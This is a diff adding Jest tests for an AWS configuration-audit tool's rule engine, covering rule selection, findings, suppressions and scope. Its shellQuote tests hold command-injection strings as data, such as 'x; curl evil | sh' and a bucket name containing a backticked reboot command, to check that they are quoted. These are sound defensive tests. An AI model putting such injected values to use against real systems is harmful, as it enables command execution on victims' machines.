@@ -1,0 +1,174 @@
+import { describe, expect, it } from '@jest/globals';
+import { ConfigError } from '../../src/config/load.js';
+import { DEFAULT_CONFIG, type AuditConfig } from '../../src/config/schema.js';
+import { fingerprintOf } from '../../src/findings/finding.js';
+import { runRules } from '../../src/rules/engine.js';
+import { defineRule, type Rule } from '../../src/rules/model.js';
+import { selectRules } from '../../src/rules/select.js';
+import { inventoryOf, resource } from '../support/inventory-builder.js';
+
+const NOW = new Date('2026-11-25T12:00:00Z');
+
+const bucket = (id: string, region: string, tags: Record<string, string> = {}) =>
+  resource(
+    's3:bucket',
+    id,
+    {
+      encryption: null,
+      versioning: 'Disabled',
+      mfaDelete: false,
+      publicAccessBlock: null,
+      policy: null,
+      aclPublicGrants: [],
+      objectOwnership: null,
+      lifecycle: { ruleCount: 0, enabledRuleCount: 0 },
+      logging: { enabled: false, targetBucket: null },
+    },
+    { region, tags, arn: `arn:aws:s3:::${id}` },
+  );
+
+const meta = {
+  title: 'A test rule over buckets',
+  severity: 'medium' as const,
+  category: 'hygiene' as const,
+  resourceType: 's3:bucket' as const,
+  description: 'Reports every bucket, for engine tests.',
+  risk: 'None at all: this only exercises the engine.',
+  remediation: { text: 'Nothing to do here.' },
+};
+const everyBucket = (id: string, extra: Partial<Parameters<typeof defineRule>[0]> = {}): Rule =>
+  defineRule({ ...meta, id, ...extra }, (ctx) =>
+    ctx.resources('s3:bucket').map((b) => ({ target: b, message: `bucket ${b.id}`, evidence: { id: b.id } })),
+  );
+
+const inventory = inventoryOf([bucket('logs', 'us-east-1', { team: 'ops' }), bucket('site', 'eu-west-2')]);
+const withConfig = (partial: Partial<AuditConfig>): AuditConfig => ({
+  ...DEFAULT_CONFIG,
+  source: 'aws-audit.yml',
+  ...partial,
+});
+
+describe('selectRules', () => {
+  const rules = [
+    everyBucket('s3.one'),
+    everyBucket('s3.two'),
+    everyBucket('ec2.three'),
+    everyBucket('s3.off', { defaultEnabled: false }),
+  ];
+  const ids = (config: Partial<AuditConfig>) =>
+    selectRules(rules, withConfig(config)).map((r) => r.metadata.id);
+
+  it('runs the rules enabled by default', () => {
+    expect(ids({})).toEqual(['s3.one', 's3.two', 'ec2.three']);
+  });
+  it('lets an exact enable beat a glob disable, and an exact disable beat everything', () => {
+    expect(ids({ disable: ['s3.*'], enable: ['s3.two'] })).toEqual(['s3.two', 'ec2.three']);
+    expect(ids({ disable: ['s3.two'], enable: ['s3.*'] })).toEqual(['s3.one', 'ec2.three', 's3.off']);
+  });
+  it('rejects names that match no rule, naming the file and the setting', () => {
+    expect(() => selectRules(rules, withConfig({ disable: ['s3.tow'] }))).toThrow(ConfigError);
+    expect(() => selectRules(rules, withConfig({ severity: { 'nope.*': 'low' } }))).toThrow(
+      "aws-audit.yml: rules.severity names no rule: 'nope.*'",
+    );
+  });
+  it('knows rules by their aliases', () => {
+    const renamed = [everyBucket('s3.new-name', { aliases: ['s3.old-name'] })];
+    expect(selectRules(renamed, withConfig({ disable: ['s3.old-name'] }))).toEqual([]);
+  });
+});
+
+describe('runRules', () => {
+  it('builds findings with stable fingerprints, metadata and filled CLI templates', () => {
+    const rule = everyBucket('s3.one', {
+      remediation: { text: 'Fix it now.', cli: 'aws s3api get-bucket-acl --bucket {id} --region {region}' },
+    });
+    const { findings } = runRules(inventory, DEFAULT_CONFIG, [rule], NOW);
+    expect(findings.map((f) => f.fingerprint)).toEqual([
+      fingerprintOf('s3.one', '111122223333', 'eu-west-2', 'arn:aws:s3:::site', null),
+      fingerprintOf('s3.one', '111122223333', 'us-east-1', 'arn:aws:s3:::logs', null),
+    ]);
+    expect(findings[1]?.remediation.cli).toBe('aws s3api get-bucket-acl --bucket logs --region us-east-1');
+    expect(runRules(inventory, DEFAULT_CONFIG, [rule], NOW).findings).toEqual(findings);
+  });
+
+  it('applies severity overrides by id or alias', () => {
+    const rule = everyBucket('s3.one', { aliases: ['s3.legacy'] });
+    expect(
+      runRules(inventory, withConfig({ severity: { 's3.legacy': 'critical' } }), [rule], NOW).findings[0]
+        ?.severity,
+    ).toBe('critical');
+  });
+
+  it('suppresses by rule glob, resource glob or regex, account, region and tags, keeping the finding with its reason', () => {
+    const suppress = (s: Partial<AuditConfig['suppressions'][number]>) =>
+      runRules(
+        inventory,
+        withConfig({ suppressions: [{ rule: 's3.*', reason: 'known', source: 'aws-audit.yml:3:5', ...s }] }),
+        [everyBucket('s3.one')],
+        NOW,
+      )
+        .findings.filter((f) => f.suppressed)
+        .map((f) => f.resource.id);
+    expect(suppress({ resource: 'arn:aws:s3:::l*' })).toEqual(['logs']);
+    expect(suppress({ resource: '/:site$/' })).toEqual(['site']);
+    expect(suppress({ region: 'eu-*' })).toEqual(['site']);
+    expect(suppress({ tags: { team: 'ops' } })).toEqual(['logs']);
+    expect(suppress({ account: '999999999999' })).toEqual([]);
+    expect(suppress({})).toEqual(['site', 'logs']);
+  });
+
+  it('stops applying an expired suppression and says so', () => {
+    const config = withConfig({
+      suppressions: [
+        { rule: 's3.one', reason: 'temporary', expires: '2026-11-24', source: 'aws-audit.yml:7:5' },
+      ],
+    });
+    const outcome = runRules(inventory, config, [everyBucket('s3.one')], NOW);
+    expect(outcome.findings.every((f) => f.suppressed === null)).toBe(true);
+    expect(outcome.warnings).toEqual([
+      'The suppression at aws-audit.yml:7:5 (rule s3.one) expired on 2026-11-24; its findings are active again.',
+    ]);
+    const lastDay = runRules(inventory, config, [everyBucket('s3.one')], new Date('2026-11-24T23:59:00Z'));
+    expect(lastDay.findings.every((f) => f.suppressed !== null)).toBe(true);
+  });
+
+  it('keeps findings inside the configured scope', () => {
+    const config = withConfig({ scope: { regions: ['us-east-1'], services: null } });
+    expect(
+      runRules(inventory, config, [everyBucket('s3.one')], NOW).findings.map((f) => f.resource.id),
+    ).toEqual(['logs']);
+    const other = withConfig({ scope: { regions: null, services: ['ec2'] } });
+    expect(runRules(inventory, other, [everyBucket('s3.one')], NOW).findings).toEqual([]);
+  });
+
+  it('reports a rule that throws as a warning and still runs the others', () => {
+    const broken = defineRule({ ...meta, id: 's3.broken' }, () => {
+      throw new Error('boom');
+    });
+    const outcome = runRules(inventory, DEFAULT_CONFIG, [broken, everyBucket('s3.one')], NOW);
+    expect(outcome.warnings).toEqual(['Rule s3.broken failed and reported nothing: boom']);
+    expect(outcome.findings).toHaveLength(2);
+  });
+});
+
+describe('shellQuote (CLI templates get attacker-controlled names)', () => {
+  it('leaves plain ids alone and quotes anything a shell would interpret', async () => {
+    const { shellQuote } = await import('../../src/rules/engine.js');
+    expect(shellQuote('sg-0abc')).toBe('sg-0abc');
+    expect(shellQuote('/aws/lambda/fn')).toBe('/aws/lambda/fn');
+    expect(shellQuote('x; curl evil | sh')).toBe("'x; curl evil | sh'");
+    expect(shellQuote("it's $(id)")).toBe("'it'\\''s $(id)'");
+  });
+
+  it('quotes names filled into a remediation command', () => {
+    const rule = everyBucket('s3.one', {
+      remediation: { text: 'Fix it now.', cli: 'aws s3api delete-bucket --bucket {name}' },
+    });
+    const evil = inventoryOf([
+      resource('s3:bucket', 'b', bucket('b', 'us-east-1').attributes, { name: 'b`reboot`' }),
+    ]);
+    expect(runRules(evil, DEFAULT_CONFIG, [rule], NOW).findings[0]?.remediation.cli).toBe(
+      "aws s3api delete-bucket --bucket 'b`reboot`'",
+    );
+  });
+});
